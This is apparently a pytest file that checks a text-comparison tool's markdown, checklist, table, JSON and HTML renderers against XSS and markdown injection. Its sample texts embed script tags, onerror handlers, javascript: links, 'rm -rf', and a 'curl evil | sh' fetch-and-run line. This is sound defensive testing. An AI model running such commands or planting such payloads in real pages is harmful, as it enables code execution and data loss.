"""Hostile sources through the whole pipeline and every registered format: the output stays inert.

`tests/test_escape.py` pins the escaping functions and `tests/test_render.py` the Markdown
formats on a hand-built hostile comparison; here the hostile text goes in through `load_text`
and `compare_sources`, so it reaches the renderers the way a user's file would, in sentences
that align (AGREE, DIVERGE) and in sentences only one source has (UNIQUE).
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable

import pytest
from conftest_render import Document, assert_markdown_inert, hostile, parse_html

import compare
from compare.model import Comparison, Verdict
from compare.render import RENDERERS, render
from compare.render._html_assets import SCRIPT, STYLE

A = (
    "Officials said | 5 | people died in `rm -rf` town <script>alert(1)</script> on Monday after "
    "the storm.\n\n"
    "The mayor said the <img src=x onerror=alert(1)> bridge would reopen in *stray* June next "
    "year.\n\n"
    "See [x](javascript:alert(1)) for *stray* details <!-- comment --> about the flood defences.\n"
)
B = (
    "Officials said | 7 | people died in `rm -rf` town <script>alert(1)</script> on Monday after "
    "the storm.\n\n"
    "The mayor said the <img src=x onerror=alert(1)> bridge would reopen in *stray* June next "
    "year.\n\n"
    "Critics posted `curl evil | sh` and [click](javascript:alert(1)) <!-- hidden --> online "
    "overnight.\n"
)
LABEL_A = "Evil | <b>Outlet</b> `x`"
LABEL_B = "*Other* <img src=x onerror=alert(1)>"
PAYLOADS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!-- comment -->",
            "[x](javascript:alert(1))", "`rm -rf`", "*stray*", "| 5 |")  # fmt: skip


@pytest.fixture(scope="module")
def result() -> Comparison:
    """The two hostile sources compared by the real pipeline."""
    a = compare.load_text(A, source_id="s1", origin="[x](javascript:alert(1))", label=LABEL_A)
    b = compare.load_text(B, source_id="s2", origin="<!-- origin -->", label=LABEL_B)
    return compare.compare_sources(a, b)


def test_hostile_text_reaches_every_verdict(result: Comparison) -> None:
    """The payloads sit in aligned and in unique findings, so every report path sees them."""
    texts = {c.id: c.text for c in result.claims}
    by_verdict = {v: " ".join(texts[c] for f in result.findings if f.verdict is v for c in f.claims)
                  for v in Verdict}  # fmt: skip
    assert "<script>" in by_verdict[Verdict.DIVERGE]  # 5 vs 7 people
    assert "<img" in by_verdict[Verdict.AGREE]
    assert "javascript:" in by_verdict[Verdict.UNIQUE] and "<!--" in by_verdict[Verdict.UNIQUE]


def _markdown(out: str, comparison: Comparison) -> None:
    assert_markdown_inert(out)
    assert "\\[x\\](javascript:alert(1))" in out and "&lt;!-- comment --&gt;" in out  # shown as text


def _checklist(out: str, comparison: Comparison) -> None:
    assert_markdown_inert(out)
    assert "Evil \\| &lt;b&gt;Outlet&lt;/b&gt; \\`x\\`" in out


def _table(out: str, comparison: Comparison) -> None:
    assert "\x1b" not in out and "\u202e" not in out
    assert max(len(line) for line in out.splitlines()) <= 100
    assert "<script>alert(1)</script>" in out  # a terminal shows text as text


def _json(out: str, comparison: Comparison) -> None:
    data = json.loads(out)
    texts = {s.id: s.text for s in comparison.sources}
    for raw in data["claims"]:
        assert raw["text"] == texts[raw["source"]][raw["start"] : raw["end"]]
    assert [s["label"] for s in data["sources"]] == [s.label for s in comparison.sources]
    assert [s["origin"] for s in data["sources"]] == [s.origin for s in comparison.sources]
    joined = "".join(raw["text"] for raw in data["claims"])
    assert all(p in joined for p in PAYLOADS)


def _html(out: str, comparison: Comparison) -> None:
    doc = parse_html(out)
    assert_html_inert(doc)
    shown = doc.root.text()
    for payload in PAYLOADS:
        assert payload in shown, payload  # displayed as characters, not parsed as markup
    for source in comparison.sources:
        assert source.label in shown and source.origin in shown


def assert_html_inert(doc: Document) -> None:
    """Only the renderer's own script and style; no source-made element, handler, link or comment."""
    scripts = doc.root.find_all("script")
    assert [s.text() for s in scripts] == [SCRIPT] and not scripts[0].attrs
    assert [s.text() for s in doc.root.find_all("style")] == [STYLE]
    tags = {n.tag for n in doc.root.iter()}
    assert not tags & {"img", "iframe", "object", "embed", "link", "base", "form", "svg", "math", "b"}
    for node in doc.root.iter():
        assert not [name for name in node.attrs if name.startswith("on")], node.tag
        href = node.attrs.get("href")
        assert href is None or re.fullmatch(r"#[A-Za-z0-9_-]+", href), href
    assert doc.comments == [] and doc.declarations == ["DOCTYPE html"]


CHECKS: dict[str, Callable[[str, Comparison], None]] = {
    "markdown": _markdown,
    "checklist": _checklist,
    "table": _table,
    "json": _json,
    "html": _html,
}


def test_every_format_has_an_injection_check() -> None:
    """A newly registered format must come with its own inertness check here."""
    assert sorted(CHECKS) == sorted(RENDERERS)


@pytest.mark.parametrize("fmt", sorted(RENDERERS))
def test_format_is_inert(fmt: str, result: Comparison) -> None:
    """Each format shows the hostile characters as text and lets none of them act."""
    CHECKS[fmt](render(result, fmt, width=100), result)


def test_checklist_keeps_hostile_conflict_on_one_line(result: Comparison) -> None:
    """The number conflict stays one `- [ ]` item however many pipes and tags its sentence has."""
    items = [line for line in render(result, "checklist").splitlines() if line.startswith("- [ ]")]
    assert items and items[0].startswith("- [ ] **number**")
    assert "“5”" in items[0] and "“7”" in items[0]


def test_html_inert_for_hostile_labels_reasons_and_controls() -> None:
    """Labels, origins, warnings, reasons and speakers built to break HTML stay text; controls show."""
    comparison = hostile()
    out = render(comparison, "html")
    doc = parse_html(out)
    assert_html_inert(doc)
    assert "\x1b" not in out and "\u202e" not in out
    assert "\\x1b[31m" in doc.root.text() and "\\u202e" in doc.root.text()
    titles = " ".join(n.attrs.get("title") or "" for n in doc.root.iter())
    assert "Counts differ: <script>alert(1)</script>" in titles  # the reason, as attribute text
    header = doc.root.find_all("header")[0].text()
    assert "Evil | Outlet <b>bold</b>" in header and "<!-- c --> warning | <script>" in header
